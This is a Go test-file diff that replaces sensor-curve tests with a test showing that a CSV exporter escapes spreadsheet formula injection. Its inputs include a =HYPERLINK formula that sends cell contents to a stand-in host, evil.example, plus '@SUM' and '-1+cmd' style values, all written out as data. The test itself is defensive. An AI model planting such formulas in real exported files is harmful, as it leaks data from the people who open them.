@@ -1,28 +1,29 @@
 package main
 
 import (
+	"strings"
 	"testing"
-	"time"
 
 	"github.com/stretchr/testify/require"
 
-	"github.com/overcloud/overcloud/internal/influx"
-	"github.com/overcloud/overcloud/internal/spec"
-	"github.com/overcloud/overcloud/ui/server"
+	"github.com/overcloud/overcloud/internal/history"
+	"github.com/overcloud/overcloud/internal/history/file"
 )
 
-func TestTheCurveIsThatOfTheInlets(t *testing.T) {
-	at := func(millis int64, c float64) influx.Point {
-		return influx.Point{Time: time.UnixMilli(millis), Value: c}
+func TestWhatPeopleWroteIsNoFormulaInASpreadsheet(t *testing.T) {
+	table := history.Table{What: "answers", Columns: []history.Column{{Name: "why"}, {Name: "until"}}}
+	var out strings.Builder
+	w, err := file.New(file.CSV, table, &out)
+	require.NoError(t, err)
+	rows := []history.Row{}
+	for _, why := range []string{`=HYPERLINK("http://evil.example?"&A1)`, "@SUM(1)", "-1+cmd", "on my way", ""} {
+		rows = append(rows, history.Row{Cells: []history.Value{{Kind: history.Text, Text: why}, {Kind: history.Int, Int: -7}}})
 	}
-	room := spec.Room{Sensors: []spec.Sensor{{ID: 1}, {ID: 2, Role: spec.RoleInlet}, {ID: 3}, {ID: 4, Role: spec.RoleSupply}}}
-	require.Equal(t, []server.Point{{At: 10, Value: 25}, {At: 20, Value: 26}}, inlets(room, map[string][]influx.Point{
-		"1": {at(10, 25), at(20, 26)}, "2": {at(10, 24)}, "3": {at(10, 40)}, "4": {at(10, 12), at(20, 12), at(30, 12)}, "9": {at(10, 0)},
-	}))
-}
-
-func TestStepsBeginWithWhatHeldAndEndNow(t *testing.T) {
-	commands := []server.Point{{At: 10, Value: 24}, {At: 90, Value: 23}, {At: 150, Value: 22}}
-	require.Equal(t, []server.Point{{At: 100, Value: 23}, {At: 150, Value: 22}, {At: 200, Value: 22}}, steps(commands, 100, 200))
-	require.Empty(t, steps(nil, 100, 200))
+	require.NoError(t, inert{w}.Write(rows))
+	require.NoError(t, w.Close())
+	lines := strings.Split(strings.TrimSpace(out.String()), "\n")[1:]
+	for i, want := range []string{`"'=HYPERLINK(""http://evil.example?""&A1)",-7`, `'@SUM(1),-7`, `'-1+cmd,-7`, `on my way,-7`, `,-7`} {
+		require.Equal(t, "1970-01-01T00:00:00.000Z,"+want, lines[i])
+	}
+	require.Equal(t, "@SUM(1)", rows[1].Cells[0].Text, "the rows are the reader's")
 }
